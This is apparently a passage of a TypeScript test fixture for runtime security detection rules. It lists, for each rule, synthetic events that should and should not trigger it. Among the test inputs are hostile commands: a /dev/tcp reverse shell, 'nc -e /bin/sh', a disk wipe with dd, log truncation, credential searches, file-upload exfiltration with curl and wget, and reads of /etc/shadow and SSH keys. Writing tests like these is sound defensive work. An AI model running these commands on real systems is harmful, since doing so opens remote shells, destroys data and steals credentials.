    fires: [scene(HOST, empties('/var/log/auth.log')), scene(HOST, removes('/var/log/syslog')), run(HOST, 'truncate -s 0 /var/log/messages')],
    stays: [scene({ name: 'logrotate' }, removes('/var/log/auth.log')), scene(HOST, writes('/var/log/auth.log')), scene(HOST, removes('/var/log/x.tmp'))],
  },
  'Remove Bulk Data from Disk': {
    fires: [run(HOST, 'shred -u x'), run(HOST, 'dd if=/dev/zero of=/dev/sda')],
    stays: [run(HOST, 'rm x'), run(HOST, 'dd if=/dev/zero of=/srv/x')],
  },
  'Shell History Linked To Nowhere': {
    fires: [scene(HOST, linksSoftly('/dev/null', '/root/.bash_history'))],
    stays: [scene(HOST, linksSoftly('/dev/null', '/etc/systemd/system/x')), scene(HOST, linksSoftly('/srv/h', '/root/.bash_history'))],
  },
  'Immutable Attribute Changed': {
    fires: [run(HOST, 'chattr +i /etc/passwd')],
    stays: [run(HOST, 'lsattr /etc/passwd'), run(HOST, 'chattr +C /srv/db')],
  },
  'File Times Forged': {
    fires: [run(HOST, 'touch -r /bin/ls /usr/bin/x')],
    stays: [run(HOST, 'touch -r a b'), run(HOST, 'touch /etc/x'), run({ parents: ['dpkg'] }, 'touch -r /bin/ls /usr/bin/x')],
  },
  'Create Hidden Files or Directories': {
    fires: [scene(HOST, creates('/usr/bin/.x')), scene(HOST, makesFolder('/dev/.x'))],
    stays: [scene(HOST, creates('/srv/.x')), scene(HOST, creates('/usr/bin/x')), scene(HOST, makesFolder('/srv/.x')), scene(BUILD, creates('/usr/lib/.x'))],
  },
  'Delete or rename shell history': {
    fires: [
      scene(HOST, removes('/root/.bash_history')),
      scene(HOST, renames('/root/.bash_history-01234.tmp', '/root/.bash_history')),
      scene(POD, empties('/root/.ash_history')),
    ],
    stays: [scene(HOST, writes('/root/.bash_history')), scene(HOST, makes('/root/.bash_history')), scene(HOST, removes('/srv/x')), scene(HOST, removes('/var/lib/docker/overlay2/x/root/.bash_history'))],
  },
  'Create Symlink Over Sensitive Files': {
    fires: [scene(HOST, linksSoftly('/etc/shadow', '/srv/x')), scene(HOST, linksSoftly('/etc', '/srv/x'))],
    stays: [scene(HOST, linksSoftly('/srv/y', '/srv/x')), scene(BUILD, linksSoftly('/etc/shadow', '/srv/x'))],
  },
  'Create Hardlink Over Sensitive Files': {
    fires: [scene(HOST, linksHard('/etc/shadow', '/srv/x'))],
    stays: [scene(HOST, linksHard('/srv/y', '/srv/x')), scene({ name: 'usermod' }, linksHard('/etc/shadow', '/etc/shadow.lock'))],
  },
  'PTRACE anti-debug attempt': {
    fires: [scene(HOST, calls(EVENT.PTRACE_X, { res: 0, request: PTRACE.TRACEME, pid: 0 }))],
    stays: [scene({ parents: ['gdb'] }, calls(EVENT.PTRACE_X, { res: 0, request: PTRACE.TRACEME, pid: 0 })), scene({ name: 'strace' }, calls(EVENT.PTRACE_X, { res: 0, request: PTRACE.TRACEME, pid: 0 }))],
  },

  // credential access
  'Backdoored library loaded into SSHD (CVE-2024-3094)': {
    fires: [scene({ name: 'sshd' }, reads('/lib/x86_64-linux-gnu/liblzma.so.5.6.1'))],
    stays: [scene({ name: 'sshd' }, reads('/lib/x86_64-linux-gnu/liblzma.so.5.4.0')), scene({ name: 'xz' }, reads('/lib/liblzma.so.5.6.1'))],
  },
  'Process Memory Read By Another Process': {
    fires: [scene(HOST, reads('/proc/1/mem')), scene(HOST, calls(EVENT.PROCESS_VM_READV_X, { res: 8, pid: 1 })), run(HOST, 'gcore 1')],
    stays: [scene({ name: 'gdb' }, reads('/proc/1/mem')), scene(HOST, reads('/proc/1/maps'))],
  },
  'Directory traversal monitored file read': {
    fires: [scene({ ...POD, name: 'httpd' }, reads('/var/www/../../etc/passwd'))],
    stays: [scene({ ...POD, name: 'httpd' }, reads('/etc/passwd')), scene({ name: 'cc1' }, reads('/usr/lib/gcc/../../include/x.h'))],
  },
  'Service Account Token Read By A Tool': {
    fires: [scene({ ...POD, name: 'cat' }, reads('/var/run/secrets/kubernetes.io/serviceaccount/token'))],
    stays: [scene({ ...POD, name: 'webapi' }, reads('/var/run/secrets/kubernetes.io/serviceaccount/token')), scene({ ...POD, name: 'cat' }, reads('/var/run/secrets/kubernetes.io/serviceaccount/ca.crt'))],
  },
  'Kubernetes Credentials Read': {
    fires: [scene({ name: 'cat' }, reads('/etc/kubernetes/admin.conf')), scene({ name: 'cat' }, reads('/home/ada/.kube/config'))],
    stays: [scene({ name: 'kubectl' }, reads('/home/ada/.kube/config')), scene({ name: 'cat' }, reads('/etc/kubernetes/readme'))],
  },
  'Find AWS Credentials': {
    fires: [run(HOST, 'grep -r aws_secret_access_key /home'), run(POD, 'find / -path */.aws/credentials')],
    stays: [run(HOST, 'grep -r region /home'), run(HOST, 'aws configure get aws_access_key_id')],
  },
  'Search Private Keys or Passwords': {
    fires: [run(HOST, 'find / -name id_rsa*'), runArgs(HOST, 'grep', '-r', 'BEGIN RSA PRIVATE', '/home')],
    stays: [run(HOST, 'find / -name x'), run(HOST, 'grep password')],
  },
  'Read ssh information': {
    fires: [scene({ name: 'cat' }, reads('/root/.ssh/id_rsa'))],
    stays: [scene({ name: 'cat' }, reads('/root/.ssh/id_rsa.pub')), scene({ name: 'ssh' }, reads('/root/.ssh/id_rsa')), scene({ name: 'ssh-keygen' }, reads('/root/.ssh/id_ed25519'))],
  },
  'Read environment variable from /proc files': {
    fires: [scene({ ...POD, name: 'cat' }, reads('/proc/1/environ'))],
    stays: [scene({ name: 'cat' }, reads('/proc/1/environ')), scene({ ...POD, name: 'ps' }, reads('/proc/1/environ'))],
  },
  'Contact EC2 Instance Metadata Service From Container': {
    fires: [scene({ ...POD, name: 'curl' }, connects('169.254.170.2', 80))],
    stays: [scene({ name: 'curl' }, connects('169.254.170.2', 80)), scene(POD, connects('10.0.0.9', 80))],
  },
  'Contact cloud metadata service from container': {
    fires: [scene({ ...POD, name: 'curl' }, connects('169.254.169.254', 80))],
    stays: [scene({ name: 'curl' }, connects('169.254.169.254', 80)), scene(POD, connects('10.0.0.9', 80))],
  },
  'Packet socket created in container': {
    fires: [scene(POD, calls(EVENT.SOCKET_X, { fd: 3, domain: 17, type: 3, proto: 768 }))],
    stays: [scene(POD, calls(EVENT.SOCKET_X, { fd: 3, domain: 2, type: 1, proto: 0 })), scene(HOST, calls(EVENT.SOCKET_X, { fd: 3, domain: 17, type: 3, proto: 768 }))],
  },
  'Read sensitive file trusted after startup': {
    fires: [scene({ ...POD, name: 'nginx' }, reads('/etc/shadow'))],
    stays: [scene({ ...POD, name: 'nginx' }, reads('/etc/passwd')), scene({ ...POD, name: 'cat' }, reads('/etc/shadow'))],
  },
  'Read sensitive file untrusted': {
    fires: [scene({ ...ADA, name: 'helper' }, reads('/etc/pam.d/common-auth')), scene({ ...POD, name: 'cat' }, reads('/etc/shadow'))],
    stays: [scene({ name: 'sshd' }, reads('/etc/shadow')), scene({ name: 'crond' }, reads('/etc/pam.d/crond')), scene({ name: 'cat' }, reads('/etc/passwd')), scene(BUILD, reads('/etc/shadow'))],
  },

  // discovery
  'Enumeration Or Escape Tool Executed': {
    fires: [run(POD, 'linpeas.sh'), run(POD, 'sh /tmp/linpeas.sh'), run(POD, 'capsh --print')],
    stays: [run(POD, 'sh /tmp/x.sh'), run(POD, 'capsh --help')],
  },
  'Launch Suspicious Network Tool in Container': {
    fires: [run(POD, 'nmap 10.0.0.0/8')],
    stays: [run(POD, 'ping x'), run(HOST, 'nmap x')],
  },
  'Launch Suspicious Network Tool on Host': {
    fires: [run(HOST, 'tcpdump -i any')],
    stays: [run(HOST, 'ping x'), run(POD, 'tcpdump')],
  },
  'Basic Interactive Reconnaissance': {
    fires: [run({ ...POD, tty: 34817 }, 'whoami')],
    stays: [run(POD, 'whoami'), run({ tty: 34817 }, 'whoami'), run({ ...POD, tty: 34817 }, 'ls')],
  },
  'Contact K8S API Server From Container': {
    fires: [scene({ ...POD, name: 'curl' }, connects('10.96.0.1', 443))],
    stays: [scene({ name: 'curl' }, connects('10.96.0.1', 443)), scene(POD, connects('10.96.0.1', 53)), scene(POD, connects('10.96.0.9', 443))],
  },

  // lateral movement
  'The docker client is executed in a container': {
    fires: [run(POD, 'docker ps')],
    stays: [run(HOST, 'docker ps'), run(POD, 'dockerize x')],
  },
  'Kubernetes Client Tool Launched in Container': {
    fires: [run(POD, 'kubectl get pods')],
    stays: [run(HOST, 'kubectl get pods')],
  },
  'Disallowed SSH Connection Non Standard Port': {
    fires: [scene({ name: 'ssh' }, connects('203.0.113.7', 443))],
    stays: [scene({ name: 'ssh' }, connects('203.0.113.7', 22)), scene({ name: 'curl' }, connects('203.0.113.7', 443)), scene({ name: 'ssh' }, connects('10.0.0.9', 443))],
  },
  'SSH Client Launched In Container': {
    fires: [run(POD, 'ssh root@10.0.0.9')],
    stays: [run(HOST, 'ssh root@10.0.0.9'), run({ where: 'pod', parents: ['git'] }, 'ssh git@x'), run(POD, 'ssh -V')],
  },
  'Unexpected K8s NodePort Connection': {
    fires: [scene(POD, accepts(31000))],
    stays: [scene(POD, accepts(8080)), scene(HOST, accepts(31000)), scene(POD, connects('203.0.113.7', 31000))],
  },

  // collection
  'Input Device Read': {
    fires: [scene(HOST, reads('/dev/input/event3'))],
    stays: [scene({ name: 'Xorg' }, reads('/dev/input/event3')), scene(HOST, reads('/dev/input/mice'))],
  },
  'Sensitive Files Archived': {
    fires: [run(HOST, 'tar czf /tmp/x.tgz /root/.ssh')],
    stays: [run(HOST, 'tar czf /tmp/x.tgz /srv'), run(HOST, 'ls /root/.ssh')],
  },
  'Database Dumped In Terminal': {
    fires: [run({ ...POD, tty: 34817 }, 'pg_dump shop')],
    stays: [run(POD, 'pg_dump shop'), run({ ...POD, tty: 34817 }, 'psql shop')],
  },

  // exfiltration, command and control
  'Exfiltrating Artifacts via Kubernetes Control Plane': {
    fires: [run(ENGINE_POD, 'tar cf - /srv/data')],
    stays: [run(POD, 'tar cf - /srv/data'), run(ENGINE_POD, 'tar xf -'), run({ parents: ['runc'] }, 'tar cf - /x')],
  },
  'Upload With Web Client': {
    fires: [run(POD, 'curl -T /srv/x https://x'), run(POD, 'curl -F f=@/srv/x https://x'), run(POD, 'wget --post-file=/srv/x http://x')],
    stays: [run(POD, 'curl https://x'), run(HOST, 'curl -T /srv/x https://x')],
  },
  'Launch Remote File Copy Tools in Container': {
    fires: [run(POD, 'scp x y:z')],
    stays: [run(HOST, 'scp x y:z'), run(POD, 'cp x y'), run(POD, 'rsync --version')],
  },
  'Launch Ingress Remote File Copy Tools in Container': {
    fires: [run(POD, 'wget http://203.0.113.7/x'), run(POD, 'curl -o x http://203.0.113.7/x')],
    stays: [
      run(POD, 'wget -q -O /dev/null http://10.0.0.9/'),
      run(POD, 'wget --spider http://x'),
      run(POD, 'curl http://203.0.113.7/x'),
      run(HOST, 'wget http://203.0.113.7/x'),
      run({ where: 'pod', parents: ['apk'] }, 'wget http://x'),
    ],
  },
  'Tunnelling Tool Executed': {
    fires: [run(POD, 'chisel client x'), run(HOST, 'ssh -R 1:localhost:2 x')],
    stays: [run(HOST, 'ssh x')],
  },
  'Detect outbound connections to common miner pool ports': {
    fires: [scene(POD, connects('203.0.113.7', 3333))],
    stays: [scene(POD, connects('203.0.113.7', 443)), scene(POD, connects('10.0.0.9', 3333))],
  },
  'System procs network activity': {
    fires: [scene({ ...POD, name: 'cat' }, connects('203.0.113.7', 443)), scene({ name: 'tee' }, accepts(8080))],
    stays: [scene({ ...POD, name: 'curl' }, connects('203.0.113.7', 443)), scene({ name: 'cat' }, connects('10.0.0.9', 443))],
  },

  // those that wait
  'Web Server Spawned Shell': {
    fires: [run({ where: 'pod', parents: ['httpd'] }, 'sh -c id'), run({ parents: ['gunicorn'] }, 'bash')],
    stays: [run({ parents: ['httpd'] }, 'sh -c rotatelogs /var/log/x'), run({ where: 'pod', parents: ['nginx'] }, 'ls'), run(POD, 'sh -c id')],
  },
  'Reverse Shell from Web Server': {
    fires: [
      runArgs({ where: 'pod', parents: ['sh', 'httpd'] }, 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4443 0>&1'),
      runArgs({ parents: ['php-fpm'] }, 'python3', '-c', 'import socket'),
      run({ parents: ['nginx'] }, 'nc -e /bin/sh 203.0.113.7 1'),
    ],
    stays: [runArgs(POD, 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4443'), run({ parents: ['nginx'] }, 'sh -c id')],
  },
  'Network Tool Executed During NPM Package Install': {
    fires: [run({ where: 'pod', parents: ['sh', 'npm'] }, 'nc 203.0.113.7 1'), run({ where: 'pod', parents: ['sh', 'node', 'yarn'] }, 'curl x')],
    stays: [run({ parents: ['npm'] }, 'nc x 1'), run({ where: 'pod', parents: ['npm'] }, 'tar xf x'), run(POD, 'nmap x')],
  },
  'Program run with disallowed http proxy env': {
    fires: [run(HOST, 'curl x', { env: ['http_proxy=http://203.0.113.7:1'] }), run(POD, 'wget x', { env: ['HTTP_PROXY=http://203.0.113.7'] })],
    stays: [run(HOST, 'curl x', { env: ['NO_PROXY=x'] }), run(HOST, 'ls', { env: ['HTTP_PROXY=x'] })],
  },
  'Launch Disallowed Container': {
    local: macro('allowed_containers', 'container.image.repository in (docker.io/acme/agent)'),
    fires: [run({ ...POD, vpid: 1 }, 'httpd')],
    stays: [run({ where: 'privileged', vpid: 1 }, 'agent'), run({ ...POD, vpid: 7 }, 'httpd'), run({ vpid: 1 }, 'httpd')],
  },
  'Container Run as Root User': {
    fires: [run({ ...POD, vpid: 1 }, 'httpd')],
    stays: [run({ ...POD, vpid: 1, uid: 33 }, 'httpd'), run(POD, 'sh'), run({ vpid: 1 }, 'systemd')],
  },
  'Container Drift Detected (chmod)': {
    fires: [scene(POD, setsMode('/tmp/x', 0o755)), scene(POD, setsMode('/tmp/x', 0o645))],
    stays: [scene(POD, setsMode('/tmp/x', 0o644)), scene(HOST, setsMode('/tmp/x', 0o755)), scene(BUILD, setsMode('/tmp/x', 0o755))],
  },
  'Container Drift Detected (open+create)': {
    fires: [scene(POD, createsProgram('/tmp/x'))],
    stays: [scene(POD, creates('/tmp/x')), scene(HOST, createsProgram('/tmp/x'))],
  },
  'Read Shell Configuration File': {
    fires: [scene({ name: 'cat' }, reads('/root/.bashrc')), scene({ name: 'python3' }, reads('/etc/profile.d/x.sh'))],
    stays: [scene(HOST, reads('/root/.bashrc')), scene({ name: 'cat' }, writes('/root/.bashrc'))],
  },
  'Interpreted procs inbound network activity': {
    fires: [scene({ name: 'python3' }, accepts(8080))],
    stays: [scene({ name: 'nginx' }, accepts(8080)), scene({ name: 'python3' }, connects('203.0.113.7', 80))],
  },
  'Interpreted procs outbound network activity': {
    fires: [scene({ name: 'perl' }, connects('203.0.113.7', 80))],
    stays: [scene({ name: 'perl' }, connects('10.0.0.9', 80)), scene({ name: 'curl' }, connects('203.0.113.7', 80))],
  },
  'Unexpected UDP Traffic': {
    fires: [scene(HOST, connectsByUdp('203.0.113.7', 4000))],
    stays: [scene(HOST, connectsByUdp('203.0.113.7', 53)), scene(HOST, connects('203.0.113.7', 4000))],
  },
  'Unexpected inbound connection source': {
    fires: [scene(HOST, accepts(8080))],
    stays: [scene(HOST, connects('203.0.113.7', 80))],
  },
  'Unexpected outbound connection destination': {
    local: list('allowed_outbound_destination_networks', '"203.0.113.0/24"'),
    fires: [scene(HOST, connects('198.51.100.7', 80))],
    stays: [scene(HOST, connects('203.0.113.7', 80)), scene(HOST, accepts(8080))],
  },
  'Disallowed SSH Connection': {
    local: macro('allowed_ssh_hosts', 'fd.snet = "10.0.0.0/8"'),
    fires: [scene(HOST, connects('203.0.113.7', 22))],
    stays: [scene(HOST, connects('10.0.0.9', 22)), scene(HOST, connects('203.0.113.7', 443))],
  },
  'Outbound Connection to C2 Servers': {
    local: list('c2_server_ip_list', '"203.0.113.7"'),
    fires: [scene(HOST, connects('203.0.113.7', 443))],
    stays: [scene(HOST, connects('203.0.113.8', 443))],
  },
  'Network Connection outside Local Subnet': {
    local: list('namespace_scope_network_only_subnet', 'team-blue'),
    fires: [scene(POD, connects('203.0.113.7', 443))],
    stays: [scene(POD, connects('10.0.0.9', 443)), scene(HOST, connects('203.0.113.7', 443))],
  },
  'Outbound or Inbound Traffic not to Authorized Server Process and Port': {
    local: list('allowed_image', 'docker.io/library/httpd') + list('authorized_server_binary', 'httpd') + list('authorized_server_port', '80', '5432'),
    fires: [scene(POD, accepts(4444))],
    stays: [scene({ ...POD, name: 'httpd' }, accepts(80)), scene({ where: 'privileged' }, accepts(4444)), scene(HOST, accepts(4444))],
  },
};

/** What any program does all day; the last one starts another. */
export const ORDINARY: readonly Act[] = [
  reads('/srv/x'),
  writes('/srv/x'),
  creates('/srv/y'),
  empties('/srv/y'),
  renames('/srv/y', '/srv/z'),
  removes('/srv/z'),
  makesFolder('/srv/d'),
  linksSoftly('/srv/x', '/srv/l'),
  linksHard('/srv/x', '/srv/h'),
  setsMode('/srv/x', 0o644),
  calls(EVENT.DUP2_X, { res: 9, oldfd: 9, newfd: 9 }),
  ...connects('10.0.0.9', 5432),
  receives(Buffer.from('ready')),
  calls(EVENT.CLOSE_X, { res: 0, fd: 8 }),
  runs(['cal'], { env: ['LANG=C'] }),
];

/** Rules that are about who starts a program, whichever it is. */
export const ABOUT_ANY_PROGRAM: ReadonlySet<string> = new Set([
  'DB program spawned process',
  'System user interactive',
  'Launch Sensitive Mount Container',
  'Launch Privileged Container',
  'Launch Excessively Capable Container',
  'Launch Disallowed Container',
  'Container Run as Root User',
]);
